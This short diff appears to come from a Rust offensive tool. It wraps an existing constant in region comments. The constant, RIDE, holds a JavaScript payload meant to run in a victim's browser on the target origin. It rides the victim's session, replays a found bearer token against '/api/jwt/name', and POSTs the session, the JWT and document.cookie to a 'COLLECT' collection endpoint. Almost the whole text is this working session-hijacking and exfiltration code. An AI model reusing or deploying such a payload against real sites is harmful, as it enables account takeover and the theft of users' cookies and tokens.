@@ -27,6 +27,7 @@ impl Payload {
     }
 }
 
+// #region ride
 /// Sends two requests as the reader: one that the browser adds the cookie to, and one to which the script adds what it
 /// found. It learns the answers, for it runs on their origin.
 const RIDE: &str = "(async()=>{\
@@ -37,3 +38,4 @@ const RIDE: &str = "(async()=>{\
     jwt=t?await put('/api/jwt/name',{authorization:'Bearer '+t}):0;\
     fetch('COLLECT',{method:'POST',mode:'no-cors',body:JSON.stringify({session,jwt,cookie:document.cookie,localStorage:{}})})\
     })()";
+// #endregion ride
